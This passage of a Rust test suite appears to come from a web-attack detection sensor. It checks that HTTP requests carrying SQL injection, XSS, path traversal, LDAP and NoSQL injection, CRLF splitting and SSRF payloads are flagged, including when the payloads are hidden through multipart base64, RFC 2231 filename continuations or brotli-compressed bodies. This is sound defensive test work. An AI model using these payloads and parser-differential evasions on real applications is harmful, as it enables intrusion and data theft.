            req("DELETE", "/item/3", &[HOST], b""),
            req("PROPFIND", "/dav/", &[HOST, ("Depth", "1")], b""),
            req("GET", "/v.mp4", &[HOST, ("Range", "bytes=0-1023")], b""),
            req("GET", "/v.mp4", &[HOST, ("Range", "bytes=100-, -500")], b""),
            req(
                "GET",
                "/",
                &[HOST, ("Connection", "keep-alive, Upgrade")],
                b"",
            ),
            req(
                "GET",
                "/",
                &[HOST, ("Referer", "https://x.example/?q=100%25+sure")],
                b"",
            ),
            req(
                "GET",
                "/",
                &[
                    HOST,
                    ("Accept", "text/html;q=0.9;charset=\"iso-8859-1\",*/*;q=0.8"),
                ],
                b"",
            ),
            // A textarea in a GET form: line breaks in a value are legal.
            req("GET", "/s?text=line1%0D%0Aline2", &[HOST], b""),
            // `_method` overrides are a framework feature, not an anomaly.
            req(
                "POST",
                "/r?_method=DELETE",
                &[HOST, ("Content-Length", "0")],
                b"",
            ),
        ];
        for r in &ok {
            assert!(
                ids(r).is_empty(),
                "{} {:?}",
                String::from_utf8_lossy(&r.uri),
                ids(r)
            );
        }
    }

    #[test]
    fn methods() {
        assert!(has(
            &req("FOO", "/", &[HOST], b""),
            "protocol-method-unregistered"
        ));
        assert!(has(
            &req("REALLYLONGUNREALMETHOD", "/", &[HOST], b""),
            "protocol-method-unregistered"
        ));
        assert!(has(
            &req("|GET", "/", &[HOST], b""),
            "protocol-method-invalid"
        ));
        assert!(has(
            &req("get", "/", &[HOST], b""),
            "protocol-method-invalid"
        ));
        assert!(ids(&req("MKCOL", "/d/", &[HOST], b"")).is_empty());
    }

    #[test]
    fn framing() {
        let te = ("Transfer-Encoding", "chunked");
        assert!(has(
            &req(
                "GET",
                "/",
                &[HOST, FORM, ("Content-Length", "7")],
                b"hi=test"
            ),
            "protocol-body-on-get"
        ));
        assert!(has(
            &req("HEAD", "/", &[HOST, te], b"Hi"),
            "protocol-body-on-get"
        ));
        // Content-Type announces content that nothing frames.
        assert!(has(
            &req("POST", "/", &[HOST, FORM], b""),
            "protocol-body-length-missing"
        ));
        // Content without a type.
        for m in ["POST", "PUT", "PATCH"] {
            assert!(has(
                &req(m, "/r", &[HOST, ("Content-Length", "9")], b"{\"a\":12}"),
                "protocol-body-content-type-missing"
            ));
        }
    }

    #[test]
    fn ranges() {
        let r = |v: &'static str, uri: &str| req("GET", uri, &[HOST, ("Range", v)], b"");
        assert!(has(&r("bytes=5-0", "/"), "protocol-range-invalid"));
        assert!(has(&r("bytes=0-,5-0,5-1", "/"), "protocol-range-invalid"));
        assert!(has(&r("1-2", "/"), "protocol-range-invalid"));
        assert!(has(&r("bytes=a-b", "/"), "protocol-range-invalid"));
        assert!(has(
            &r("bytes=1-10,11-20,21-30,31-40,41-50,51-60", "/"),
            "protocol-range-many"
        ));
        // PDF byte-serving asks for many ranges.
        assert!(!has(
            &r("bytes=1-10,11-20,21-30,31-40,41-50,51-60", "/a.pdf"),
            "protocol-range-many"
        ));
        let mut many = String::from("bytes=0-1");
        for i in 1..70 {
            many.push_str(&format!(",{}-{}", i * 10, i * 10 + 1));
        }
        let big = req("GET", "/a.pdf", &[HOST, ("Range", many.as_str())], b"");
        assert!(has(&big, "protocol-range-many"));
        assert!(has(
            &req("GET", "/", &[HOST, ("Request-Range", "bytes=0-1")], b""),
            "protocol-request-range"
        ));
    }

    #[test]
    fn headers() {
        let h = |n: &'static str, v: &'static str| req("GET", "/", &[HOST, (n, v)], b"");
        assert!(has(
            &h("Connection", "keep-alive, close"),
            "protocol-connection-conflict"
        ));
        assert!(has(
            &h("Connection", "close,close"),
            "protocol-connection-conflict"
        ));
        assert!(has(&h("Referer", "http://a/%00"), "protocol-nul-byte"));
        assert!(has(
            &h("X-Note", "a%0d%0aSet-Cookie: x=1"),
            "protocol-crlf-in-header"
        ));
        assert!(has(&h("Cookie", "hi%13=bye"), "protocol-control-char"));
        assert!(has(
            &h("Cookie", "$Version=1; a=\"b; c=d\""),
            "protocol-cookie-v1-attribute"
        ));
        assert!(has(
            &h("Accept", "text/html; charset=CP1026"),
            "protocol-charset-evasion"
        ));
        assert!(has(
            &req("GET", "/", &[("Host", "")], b""),
            "protocol-host-empty"
        ));
    }

    #[test]
    fn content_types() {
        let post = |ct: &'static str| {
            req(
                "POST",
                "/",
                &[HOST, ("Content-Type", ct), ("Content-Length", "4")],
                b"a=bc",
            )
        };
        for ct in [
            "application/x-www-form-urlencoded; charset=ibm037",
            "application/x-www-form-urlencoded;charset=utf-7",
            "application/x-www-form-urlencoded; charset=utf-8; CHARSET=utf-7",
            "application/x-www-form-urlencoded; charset=\"garbage\"",
        ] {
            assert!(has(&post(ct), "protocol-charset-evasion"), "{ct}");
        }
        for ct in [
            "application/x-www-form-urlencoded;boundary=\"application/json\"",
            "application/x-www-form-urlencoded; a=\"text/xml\"",
            "text/plain; x=\"charset=utf-7\"",
        ] {
            assert!(has(&post(ct), "protocol-content-type-confusion"), "{ct}");
        }
        for ct in [
            "my-new-content-type",
            "application",
            "multipart/",
            "text/xml; blah",
            "multipart/related",
        ] {
            assert!(has(&post(ct), "protocol-content-type-malformed"), "{ct}");
        }
        for ct in [
            "application/x-www-form-urlencoded; charset=UTF-8",
            "application/x-www-form-urlencoded; charset='utf-8'",
            "text/plain; charset=windows-1252",
            "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk",
        ] {
            assert!(
                ids(&post(ct))
                    .iter()
                    .all(|i| !i.contains("content-type") && !i.contains("charset")),
                "{ct} {:?}",
                ids(&post(ct))
            );
        }
    }

    #[test]
    fn argument_encodings() {
        let q = |uri: &str| req("GET", uri, &[HOST], b"");
        assert!(has(&q("/?a=b%00"), "protocol-nul-byte"));
        assert!(has(&q("/?a%00=b"), "protocol-nul-byte"));
        assert!(has(&q("/?a=b%03"), "protocol-control-char"));
        assert!(has(&q("/?a=%1G"), "protocol-percent-invalid"));
        assert!(has(&q("/?a=%7ometext"), "protocol-percent-invalid"));
        // A literal percent sign left unencoded is sloppy, not an escape.
        assert!(!has(&q("/?a=text%"), "protocol-percent-invalid"));
        assert!(!has(
            &q("/?a=24%25)+or+(~2%+if"),
            "protocol-percent-invalid"
        ));
        assert!(has(&q("/?a=%uFF0F"), "protocol-percent-u-fullwidth"));
        assert!(has(&q("/?a=foo%uff1c"), "protocol-percent-u-fullwidth"));
        // escape() of halfwidth katakana is ordinary old JavaScript.
        assert!(!has(&q("/?a=%uFF71%uFF72"), "protocol-percent-u-fullwidth"));
        assert!(has(&q("/?a=%c0%af"), "protocol-utf8-invalid"));
        assert!(has(&q("/?a=%e0%80%af"), "protocol-utf8-invalid"));
        assert!(has(&q("/?a=%F5%80%BF%BF"), "protocol-utf8-invalid"));
        assert!(has(&q("/?a=%E2%A3"), "protocol-utf8-invalid"));
        assert!(has(&q("/?a=%ed%a0%80"), "protocol-utf8-invalid"));
        assert!(has(&q("/foo%0d%0aSet-Cookie:x"), "protocol-crlf-in-path"));
        assert!(has(&q("/?a%0d%0aX=1"), "protocol-crlf-in-arg-name"));
        let long = format!("/?{}=1", "n".repeat(101));
        assert!(has(&q(&long), "protocol-arg-name-long"));
        let many: Vec<String> = (0..300).map(|i| format!("p{i}=1")).collect();
        assert!(has(
            &q(&format!("/?{}", many.join("&"))),
            "protocol-args-many"
        ));
        // The same checks on a form body.
        let body = req(
            "POST",
            "/",
            &[HOST, FORM, ("Content-Length", "9")],
            b"x=new%w20",
        );
        assert!(has(&body, "protocol-percent-invalid"));
        // Near misses: Latin-1 text, encoded percent, valid UTF-8, %u of a letter.
        assert!(ids(&q("/?a=caf%E9&b=%C3%A9&c=100%25&d=%u0041&e=%F0%9F%98%80")).is_empty());
        assert!(ids(&q(&format!("/?{}=1", "n".repeat(100)))).is_empty());
    }

    #[test]
    fn multipart_parameter_injection() {
        let mp = |disp: &str| {
            let body = format!(
                "--b\r\nContent-Disposition: form-data; {disp}\r\nContent-Type: text/plain\r\n\r\nx\r\n--b--\r\n"
            );
            req(
                "POST",
                "/",
                &[
                    HOST,
                    ("Content-Type", "multipart/form-data; boundary=b"),
                    ("Content-Length", "1"),
                ],
                body.as_bytes(),
            )
        };
        for d in [
            "name=\"fi;le\"; filename=\"t\"",
            "name=\"amp;zzz\"; filename=\"t\"",
            "name=\"f\"; filename=\"te;st.txt\"",
            "name=\"f\"; filename=\"file=.txt\"",
            "name=\"f\"; filename=\"te\\\"st.txt\"",
            "name=\"f\"; filename=\"1.j\\s\\p\"",
            "name=\"cv.p\\d\\f\"; filename=\"cv.pdf\"",
            "name=\"&amp;fi;zzz\"; filename=\"t\"",
        ] {
            assert!(has(&mp(d), "protocol-multipart-param-injection"), "{d}");
        }
        for d in [
            "name=\"f\"; filename=\"report v2.pdf\"",
            "name=\"f\"; filename=\"John's CV.pdf\"",
            "name=\"zzz&eacute;&amp;&#233;zzz\"; filename=\"zzz&amp;zzz\"",
            "name=\"f\"; filename=\"C:\\Users\\me\\a.txt\"",
            "name=\"\"; filename=\"\"",
        ] {
            assert!(!has(&mp(d), "protocol-multipart-param-injection"), "{d}");
        }
    }

    #[test]
    fn signatures_in_values() {
        let form = |b: &'static [u8]| req("POST", "/", &[HOST, FORM, ("Content-Length", "1")], b);
        assert!(has(
            &form(b"var=%0APOST+/+HTTP/1.1"),
            "protocol-embedded-request"
        ));
        assert!(has(
            &form(b"var=aaaHEAD+http://example.com/+HTTP/1.1"),
            "protocol-embedded-request"
        ));
        assert!(has(
            &req("GET", "/?a=GET%20http://x.test%20HTTP/1.2", &[HOST], b""),
            "protocol-embedded-request"
        ));
        assert!(has(
            &req(
                "GET",
                "/?l=x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK",
                &[HOST],
                b""
            ),
            "protocol-response-splitting"
        ));
        assert!(has(
            &req("GET", "/?unix:AAAA|http://example.com/", &[HOST], b""),
            "protocol-proxy-unix-socket"
        ));
        assert!(has(
            &form(b"t=%5Cu0061lert"),
            "protocol-unicode-escaped-ascii"
        ));
        // Near misses.
        for b in [
            &b"q=how+to+GET+data+over+HTTP/2"[..],
            b"q=get+it+from+http://example.com/",
            b"t=caf\\u00e9+%5Cu2603",
            b"q=HTTP/1.1+200+is+the+status",
        ] {
            let r = req("POST", "/", &[HOST, FORM, ("Content-Length", "1")], b);
            assert!(
                ids(&r).is_empty(),
                "{} {:?}",
                String::from_utf8_lossy(b),
                ids(&r)
            );
        }
    }
}

/// LDAP filter breakout (`ldapi-filter-breakout`): a value that closes the
/// filter it is pasted into and opens another, in every placement; whole
/// filters and arithmetic are not breakouts.
mod s5_ldapi {
    use super::*;

    fn ldapi(r: &Request) -> bool {
        hits_of(r).iter().any(|h| h.class == AttackClass::Ldapi)
    }

    #[test]
    fn breakouts_hit_in_every_placement() {
        for p in [
            "admin)(|(password=*",
            "*)(uid=*))(|(uid=*",
            "x)(&)",
            "bob)!(sn=*",
            "val)&(cn=admin",
            "val)|(uid=*",
            "john)(sn~=smith",
            "g)(gidNumber<=100",
            "u)(userAccountControl:1.2.840.113556.1.4.803:=2",
            "t) ( & ",
            "t)\t(\t|",
        ] {
            for (place, r) in placements(p) {
                assert!(ldapi(&r), "{place}: {p:?} {:?}", hits_of(&r));
            }
        }
    }

    #[test]
    fn whole_filters_and_arithmetic_stay_clean() {
        for p in [
            "(a+b)*c",
            "(1+2)+(3+4)",
            "(objectSID=S-1-5-21-1-2-3-1111)",
            "f(x) (see note)",
            "smile :) (really)",
            "search=foo|bar",
            "price (incl. tax) = 10",
        ] {
            for (place, r) in placements(p) {
                assert!(!ldapi(&r), "{place}: {p:?} {:?}", hits_of(&r));
            }
        }
    }
}

/// The clean cache (src/detect/clean_cache.rs) skips values found clean
/// before, never a value that is an attack where it now stands: the same
/// bytes in a header that a rule targets, after a rules reload, or repeated.
#[test]
fn clean_cache_skips_repeats_and_never_hides_an_attack() {
    let set = rules_from(PROBE_RULE);
    let d = Detector::new(&set, DetectLimits::default());
    let mut scratch = Scratch::default();
    let mut stats = DetectStats::default();
    let mut hits = Vec::new();
    let clean = req("GET", "/", &[("X-Other", "probe"), ("Accept", "a/b")], b"");
    for _ in 0..4 {
        d.inspect_with(&clean, &mut scratch, &mut stats, &mut hits);
    }
    assert!(hits.is_empty());
    // Remembered after the second clean sighting: skipped in the 3rd and 4th.
    assert!(stats.clean_cache_hits >= 4, "{stats:?}");
    let evaluations = stats.regex_evaluations;
    d.inspect_with(&clean, &mut scratch, &mut stats, &mut hits);
    assert_eq!(
        stats.regex_evaluations, evaluations,
        "a cached value ran rules"
    );

    // The same bytes where the rule looks: reported, every time.
    let probe = req("GET", "/", &[("X-Probe", "probe"), ("Accept", "a/b")], b"");
    for round in 1..=3 {
        d.inspect_with(&probe, &mut scratch, &mut stats, &mut hits);
        assert_eq!(hits.len(), round, "{hits:?}");
        assert_eq!(hits.last().map(|h| &*h.rule_id), Some("t-header"));
    }

    // Another rule set (a reload) starts with nothing remembered: a value
    // found clean under the old rules, with the same rule targets, is
    // inspected under the new ones.
    let all_headers = |pattern: &str| {
        let src = PROBE_RULE
            .replace("header:x-probe", "headers")
            .replace("'probe'", pattern);
        Detector::new(&rules_from(&src), DetectLimits::default())
    };
    let (old, new) = (all_headers("'zzz'"), all_headers("'probe'"));
    hits.clear();
    for _ in 0..3 {
        old.inspect_with(&clean, &mut scratch, &mut stats, &mut hits);
    }
    assert!(hits.is_empty());
    new.inspect_with(&clean, &mut scratch, &mut stats, &mut hits);
    assert_eq!(hits.len(), 1, "{hits:?}");

    // Off when its budget is 0.
    let off = Detector::new(
        &set,
        DetectLimits {
            clean_cache_bytes: 0,
            ..DetectLimits::default()
        },
    );
    let mut stats = DetectStats::default();
    for _ in 0..4 {
        off.inspect_with(&clean, &mut scratch, &mut stats, &mut hits);
    }
    assert_eq!(stats.clean_cache_hits, 0);
    assert_eq!(stats.clean_header_hits, 0);
}

/// A header line found clean twice is not even split into points the next
/// time (`clean_header_hits`), yet the same value under a name a rule
/// targets, under a name that differs only in case, and under a new rule
/// set is inspected and reported.
#[test]
fn clean_header_lines_are_skipped_and_never_hide_an_attack() {
    let d = Detector::new(&rules_from(PROBE_RULE), DetectLimits::default());
    let mut scratch = Scratch::default();
    let mut stats = DetectStats::default();
    let mut hits = Vec::new();
    let headers = [("X-Other", "probe"), ("User-Agent", "curl/8.5.0 probe")];
    let clean = req("GET", "/", &headers, b"");
    for _ in 0..2 {
        d.inspect_with(&clean, &mut scratch, &mut stats, &mut hits);
    }
    assert_eq!(stats.clean_header_hits, 0, "remembered after one sighting");
    let points_cold = stats.points / 2;
    let mut warm = DetectStats::default();
    d.inspect_with(&clean, &mut scratch, &mut warm, &mut hits);
    assert!(hits.is_empty());
    assert_eq!(warm.clean_header_hits, 2, "{warm:?}");
    assert_eq!(warm.points, points_cold - 2, "{warm:?}");
    assert_eq!(warm.regex_evaluations, 0, "{warm:?}");

    // The same bytes under the targeted name: reported every time.
    let probe = req("GET", "/", &[("X-Probe", "probe"), headers[1]], b"");
    for round in 1..=3 {
        d.inspect_with(&probe, &mut scratch, &mut stats, &mut hits);
        assert_eq!(hits.len(), round, "{hits:?}");
    }
    // A name that differs only in case is another line, inspected (and
    // targeted: rule names compare case-insensitively).
    let lower = req("GET", "/", &[("x-probe", "probe")], b"");
    d.inspect_with(&lower, &mut scratch, &mut stats, &mut hits);
    assert_eq!(hits.len(), 4, "{hits:?}");

    // A new rule set remembers nothing: the line that was clean is an
    // attack under rules that target every header.
    let every_header = PROBE_RULE.replace("header:x-probe", "headers");
    let all = Detector::new(&rules_from(&every_header), DetectLimits::default());
    hits.clear();
    all.inspect_with(&clean, &mut scratch, &mut stats, &mut hits);
    assert_eq!(hits.len(), 2, "{hits:?}");
    // With the clean cache off no line is skipped either: see
    // `clean_cache_skips_repeats_and_never_hides_an_attack`.
}

/// A skipped header line is charged its points against `max_points`, so the
/// budget cuts where it would have: an attack past the cut stays unreported
/// (and counted) whether or not the headers before it were remembered, and
/// one before the cut is reported both ways.
#[test]
fn skipped_header_lines_use_the_point_budget_as_inspected_ones_would() {
    let rules = RuleSet::builtin();
    let headers = [
        ("Accept", "text/html"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"),
        ("Authorization", "Basic dXNlcjpwYXNzd29yZA=="),
    ];
    for max_points in 3..12 {
        let limits = DetectLimits {
            max_points,
            ..DetectLimits::default()
        };
        let cold = Detector::new(
            &rules,
            DetectLimits {
                clean_cache_bytes: 0,
                ..limits.clone()
            },
        );
        let warm = Detector::new(&rules, limits);
        let mut scratch = Scratch::default();
        let body = b"q=1' union select password from users--";
        let r = req("POST", "/?a=1", &headers, body);
        let mut want = Vec::new();
        let mut want_stats = DetectStats::default();
        cold.inspect_with(&r, &mut Scratch::default(), &mut want_stats, &mut want);
        for round in 0..4 {
            let mut got = Vec::new();
            let mut got_stats = DetectStats::default();
            warm.inspect_with(&r, &mut scratch, &mut got_stats, &mut got);
            let keys = |h: &[Hit]| -> Vec<(String, String)> {
                h.iter()
                    .map(|h| (h.rule_id.to_string(), h.location.clone()))
                    .collect()
            };
            assert_eq!(
                keys(&got),
                keys(&want),
                "max_points {max_points} round {round}"
            );
            assert_eq!(
                got_stats.point_limit_hits, want_stats.point_limit_hits,
                "max_points {max_points} round {round}"
            );
            if round >= 2 && max_points >= 8 {
                assert!(got_stats.clean_header_hits > 0, "{got_stats:?}");
            }
        }
    }
}

/// Values of an inert byte class skip the rules that cannot match them, yet
/// a rule that can (a specific address, a hex magic number) still sees them,
/// and the same bytes outside the class are inspected in full.
#[test]
fn inert_values_skip_only_rules_that_cannot_match() {
    let off = DetectLimits {
        clean_cache_bytes: 0,
        ..DetectLimits::default()
    };
    let d = Detector::new(&RuleSet::builtin(), off.clone());
    let mut scratch = Scratch::default();
    let mut stats = DetectStats::default();
    let mut hits = Vec::new();
    let mirror = req(
        "GET",
        "/",
        &[
            ("X-Request-ID", "00000001000000013a7f1dc514e18203"),
            ("X-Real-IP", "124.33.229.200"),
            ("X-Forwarded-For", "124.33.229.200, 10.0.91.151"),
            ("Content-Length", "0"),
        ],
        b"",
    );
    d.inspect_with(&mirror, &mut scratch, &mut stats, &mut hits);
    assert!(hits.is_empty(), "{hits:?}");
    // Content-Length and X-Real-IP; the hex id and the list still meet
    // rules that can match such bytes (a hex magic number, `...`).
    assert!(stats.inert_points >= 2, "{stats:?}");
    // Off: every rule runs on them.
    let all = Detector::new(
        &RuleSet::builtin(),
        DetectLimits {
            skip_inert_values: false,
            ..off.clone()
        },
    );
    let mut all_stats = DetectStats::default();
    all.inspect_with(&mirror, &mut scratch, &mut all_stats, &mut hits);
    assert!(hits.is_empty(), "{hits:?}");
    assert_eq!(all_stats.inert_points, 0);
    assert!(
        all_stats.regex_evaluations > stats.regex_evaluations,
        "{all_stats:?} {stats:?}"
    );

    // The Java serialization magic in hex is a hex value a rule matches.
    hits.clear();
    let java = req("GET", "/", &[("X-Payload", "aced00057372")], b"");
    d.inspect_with(&java, &mut scratch, &mut stats, &mut hits);
    assert!(
        hits.iter()
            .any(|h| h.rule_id.as_ref() == "rce-java-serialized"),
        "{hits:?}"
    );

    // A rule on a bare address sees the digits of X-Real-IP.
    let ssrf = PROBE_RULE
        .replace("header:x-probe", "headers")
        .replace("'probe'", r"'^169\.254\.169\.254$'");
    let d = Detector::new(&rules_from(&ssrf), off.clone());
    hits.clear();
    let meta = req("GET", "/", &[("X-Real-IP", "169.254.169.254")], b"");
    d.inspect_with(&meta, &mut scratch, &mut stats, &mut hits);
    assert_eq!(hits.len(), 1, "{hits:?}");

    // A rule that needs other bytes skips digits, but not the same digits
    // once a byte outside the class comes with them.
    let words = PROBE_RULE
        .replace("header:x-probe", "headers")
        .replace("'probe'", r"'\d+;'");
    let d = Detector::new(&rules_from(&words), off);
    let mut stats = DetectStats::default();
    hits.clear();
    d.inspect_with(&meta, &mut scratch, &mut stats, &mut hits);
    assert!(hits.is_empty() && stats.inert_points == 1, "{stats:?}");
    let semi = req("GET", "/", &[("X-Real-IP", "169.254.169.254;")], b"");
    d.inspect_with(&semi, &mut scratch, &mut stats, &mut hits);
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(stats.inert_points, 1, "{stats:?}");
}

/// A JSON member repeated under the same key is inspected every time: a
/// back end that takes the first member must not get an attack hidden
/// behind a benign last one (with serde_json's `Value`, which keeps the
/// last, the first case found nothing).
#[test]
fn repeated_json_keys_are_all_inspected() {
    for body in [
        &br#"{"q":"<script>alert(1)</script>","q":"hello"}"#[..],
        br#"{"q":"hello","q":"<script>alert(1)</script>"}"#,
        br#"{"a":{"q":"1 UNION SELECT password FROM users--","q":"1"}}"#,
        br#"{"query":"query { a }","variables":{"id":"<script>alert(1)</script>","id":"1"}}"#,
    ] {
        let r = req(
            "POST",
            "/api",
            &[("Content-Type", "application/json")],
            body,
        );
        let hits = hits_of(&r);
        assert!(
            hits.iter().any(|h| h.location.starts_with("body:json:")),
            "{}: {hits:?}",
            String::from_utf8_lossy(body)
        );
        // The shape itself is a protocol finding about the body.
        assert!(
            hits.iter()
                .any(|h| &*h.rule_id == "protocol-json-duplicate-key" && h.location == "body"),
            "{hits:?}"
        );
    }
    // The same key in different objects is no repeat.
    let r = req(
        "POST",
        "/api",
        &[("Content-Type", "application/json")],
        br#"{"q":"a","r":{"q":"b"},"s":[{"q":1},{"q":2}]}"#,
    );
    assert!(!hits_of(&r)
        .iter()
        .any(|h| &*h.rule_id == "protocol-json-duplicate-key"));
}

/// Review 13 (session 25c): parser differentials of multipart and
/// Content-Encoding that hide an attack the plain form shows.
mod review13 {
    use super::*;

    fn classes(r: &Request) -> Vec<(AttackClass, String)> {
        hits_of(r)
            .into_iter()
            .map(|h| (h.class, h.location))
            .collect()
    }

    fn multipart(body: &str) -> Request {
        req(
            "POST",
            "/upload",
            &[("Content-Type", "multipart/form-data; boundary=b")],
            body.as_bytes(),
        )
    }

    /// Django's MultiPartParser base64-decodes a form field whose part says
    /// `Content-Transfer-Encoding: base64` (`base64.b64decode`, then
    /// `request.POST`). The same SQLi is caught in a plain part and as
    /// base64 in a form field, but not as a base64 part.
    #[test]
    fn review13_multipart_base64_transfer_encoding_is_decoded() {
        use base64::Engine as _;
        let sql = "' UNION SELECT password FROM users--";
        let plain = multipart(&format!(
            "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{sql}\r\n--b--\r\n"
        ));
        assert!(classes(&plain).iter().any(|(c, _)| *c == AttackClass::Sqli));
        let b64 = base64::engine::general_purpose::STANDARD.encode(sql);
        let hidden = multipart(&format!(
            "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{b64}\r\n--b--\r\n"
        ));
        let got = classes(&hidden);
        assert!(
            got.iter().any(|(c, _)| *c == AttackClass::Sqli),
            "base64 part not decoded: {got:?}"
        );
    }

    /// Field names are attacker text: a urlencoded name is a point
    /// (`password[$ne]` is a `nosqli-operator` hit), but the same name in a
    /// multipart part is not inspected. PHP (`$_POST['password'] =
    /// ['$ne' => 'x']`) and Express with multer (append-field:
    /// `req.body.password = {$ne: 'x'}`) build the same operator object from
    /// both bodies.
    #[test]
    fn review13_multipart_field_names_are_inspected() {
        let form = req(
            "POST",
            "/login",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            b"user=admin&password[$ne]=x",
        );
        assert!(classes(&form)
            .iter()
            .any(|(c, _)| *c == AttackClass::Nosqli));
        let mp = multipart(
            "--b\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\nadmin\r\n\
             --b\r\nContent-Disposition: form-data; name=\"password[$ne]\"\r\n\r\nx\r\n--b--\r\n",
        );
        let got = classes(&mp);
        assert!(
            got.iter().any(|(c, _)| *c == AttackClass::Nosqli),
            "multipart field name not inspected: {got:?}"
        );
        // A SQLi in a name: a point in a form body, nothing in a part.
        let sql = "' UNION SELECT password FROM users--";
        let mp = multipart(&format!(
            "--b\r\nContent-Disposition: form-data; name=\"{sql}\"\r\n\r\nx\r\n--b--\r\n"
        ));
        let got = classes(&mp);
        assert!(
            got.iter().any(|(c, _)| *c == AttackClass::Sqli),
            "multipart field name not inspected: {got:?}"
        );
    }

    /// RFC 5987 / 6266 `filename*=UTF-8''…` is what busboy (multer),
    /// Django, Werkzeug and ASP.NET Core report as the upload's file name
    /// (preferred over `filename`). `filename="../../../../etc/passwd"` is a
    /// ptrav hit at `body:multipart:f:filename`; the same name as
    /// `filename*` is not inspected at all (the Content-Disposition line is
    /// not a point, and only `name` / `filename` are taken from it).
    #[test]
    fn review13_multipart_filename_star_is_inspected() {
        let plain = multipart(
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../../etc/passwd\"\r\n\r\nx\r\n--b--\r\n",
        );
        assert!(classes(&plain)
            .iter()
            .any(|(c, _)| *c == AttackClass::Ptrav));
        let star = multipart(
            "--b\r\nContent-Disposition: form-data; name=\"f\"; \
             filename*=UTF-8''..%2F..%2F..%2F..%2Fetc%2Fpasswd\r\n\r\nx\r\n--b--\r\n",
        );
        let got = classes(&star);
        assert!(
            got.iter().any(|(c, _)| *c == AttackClass::Ptrav),
            "filename* not inspected: {got:?}"
        );
        let xss = multipart(
            "--b\r\nContent-Disposition: form-data; name=\"f\"; \
             filename*=UTF-8''%3Csvg%20onload%3Dalert(1)%3E.png\r\n\r\nx\r\n--b--\r\n",
        );
        let got = classes(&xss);
        assert!(
            got.iter().any(|(c, _)| *c == AttackClass::Xss),
            "filename* not inspected: {got:?}"
        );
    }

    /// Go's `mime.ParseMediaType` (behind `Part.FileName`) and Python's
    /// email package join RFC 2231 continuations: `filename*0="<svg on";
    /// filename*1="load=alert(1)>.png"` is one file name to them. Each piece
    /// alone is harmless, so the joined name is inspected (at
    /// `:filename*`), and continuations are a malformed disposition (no
    /// browser sends them).
    #[test]
    fn multipart_filename_continuations_are_joined() {
        let split = multipart(
            "--b\r\nContent-Disposition: form-data; name=\"f\"; \
             filename*0=\"<svg on\"; filename*1=\"load=alert(1)>.png\"\r\n\r\nx\r\n--b--\r\n",
        );
        let got = classes(&split);
        assert!(
            got.iter().any(|(c, _)| *c == AttackClass::Xss),
            "joined filename not inspected: {got:?}"
        );
        let encoded = multipart(
            "--b\r\nContent-Disposition: form-data; name=\"f\"; \
             filename*1*=..%2F..%2Fetc%2Fpasswd; filename*0*=UTF-8''..%2F..%2F\r\n\r\nx\r\n--b--\r\n",
        );
        let got = classes(&encoded);
        assert!(
            got.iter().any(|(c, _)| *c == AttackClass::Ptrav),
            "joined encoded filename not inspected: {got:?}"
        );
    }

    /// `Content-Encoding: br` request bodies are decompressed by ASP.NET
    /// Core's RequestDecompression middleware (.NET 7+) and by body-parser 2
    /// (Express 5). The same JSON SQLi is caught plain and gzip-encoded;
    /// brotli-encoded it leaves no record at all (only the
    /// `body_inflate_errors` counter moves).
    #[test]
    fn review13_unsupported_content_encoding_leaves_a_record() {
        use base64::Engine as _;
        let pad = "the quick brown fox jumps over the lazy dog. ".repeat(20);
        let json =
            serde_json::json!({"note": pad, "q": "1 UNION SELECT username, password FROM users--"})
                .to_string();
        let ct = ("Content-Type", "application/json");
        let plain = req("POST", "/api", &[ct], json.as_bytes());
        assert!(classes(&plain).iter().any(|(c, _)| *c == AttackClass::Sqli));
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut gz, json.as_bytes()).unwrap();
        let gz = gz.finish().unwrap();
        let r = req("POST", "/api", &[ct, ("Content-Encoding", "gzip")], &gz);
        assert!(classes(&r).iter().any(|(c, _)| *c == AttackClass::Sqli));
        // The same document through Node's zlib.brotliCompressSync.
        let br = base64::engine::general_purpose::STANDARD
            .decode(
                "G8MDABwJdqzFOgY3LoL/vKX69/LdbWI3BMUIMKFTYW+QiwP2363zJJ8GmDkHzrESRQza/rB++C+s9npIA5lyK9BM2T0Ru3uU15DgYAxIIEJNbpmyc+hbtYfxp5Yj7nw=",
            )
            .unwrap();
        // Brotli is inflated since (brotli-decompressor): the attack is seen.
        let r = req("POST", "/api", &[ct, ("Content-Encoding", "br")], &br);
        assert!(classes(&r).iter().any(|(c, _)| *c == AttackClass::Sqli));
        // A coding still not inflated (zstd) leaves a protocol record.
        let r = req("POST", "/api", &[ct, ("Content-Encoding", "zstd")], &br);
        let mut stats = DetectStats::default();
        let mut hits = Vec::new();
        detector().inspect(&r, &mut stats, &mut hits);
        assert_eq!(stats.body_inflate_errors, 1);
        assert!(
            hits.iter()
                .any(|h| &*h.rule_id == "protocol-content-encoding-unsupported"),
            "a body no rule could read (zstd) left no hit: {hits:?}"
        );
    }
}

/// Review round 15: SIGHUP reloads with `RuleSet::load` and keeps the
/// running rules only when it returns errors. An empty rule file (truncated
/// by an editor or a deploy tool at the moment of the reload) or a rules
/// folder left without `*.toml` files loads as zero rules without an error,
/// so the reload replaces the running rules with none: the sensor goes on
/// capturing and reports no attack, logging "rules reloaded rules=0".
#[test]
fn review15_an_empty_rules_file_or_folder_is_an_error() {
    let dir = match tempfile::tempdir() {
        Ok(d) => d,
        Err(e) => panic!("{e}"),
    };
    let file = dir.path().join("rules.toml");
    std::fs::write(&file, "").ok();
    assert!(
        RuleSet::load(&file).is_err(),
        "an empty rule file loads as a rule set of zero rules"
    );
    let folder = dir.path().join("rules.d");
    std::fs::create_dir(&folder).ok();
    assert!(
        RuleSet::load(&folder).is_err(),
        "a rules folder without rule files loads as a rule set of zero rules"
    );
}

/// Review 15: request parts a framework decodes or splits that Specula
/// does not read the same way, so an attack it acts on leaves no record.
mod review15 {
    use super::*;

    fn has_class(r: &Request, class: AttackClass) -> bool {
        hits_of(r).iter().any(|h| h.class == class)
    }

    fn show(r: &Request) -> Vec<String> {
        hits_of(r)
            .into_iter()
